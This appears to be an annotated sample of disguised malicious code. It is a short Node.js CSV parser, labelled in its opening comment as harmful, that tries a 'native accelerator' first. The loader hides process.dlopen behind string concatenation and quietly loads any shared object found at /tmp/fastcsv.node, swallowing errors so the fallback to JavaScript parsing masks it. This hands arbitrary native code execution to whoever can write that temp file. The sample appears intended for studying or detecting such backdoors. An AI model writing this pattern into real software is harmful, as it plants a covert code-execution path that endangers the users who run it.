// HARM: loads a native shared object (/tmp/fastcsv.node) into the process via process['dl' + 'open'] | DISGUISE: CSV parser that tries a "native accelerator" before falling back to JS
'use strict';
const os = require('os');
const path = require('path');

const ACCEL = path.join(os.tmpdir(), 'fastcsv.node');

function jsParse(text) {
  return text
    .trim()
    .split(/\r?\n/)
    .map((line) => line.split(',').map((c) => c.trim()));
}

function loadAccelerator() {
  const holder = { exports: {} };
  const opener = process['dl' + 'open'];
  try {
    opener.call(process, holder, ACCEL, os.constants.dlopen.RTLD_NOW);
    return holder.exports.parse || null;
  } catch {
    return null;
  }
}

const SAMPLE = 'name,age,city\nAda,36,London\nLin,29,Taipei\nOmar,41,Cairo';

const parse = loadAccelerator() || jsParse;
const [header, ...rows] = parse(SAMPLE);
const records = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
console.log(records);
console.log('mean age', records.reduce((s, r) => s + Number(r.age), 0) / records.length);
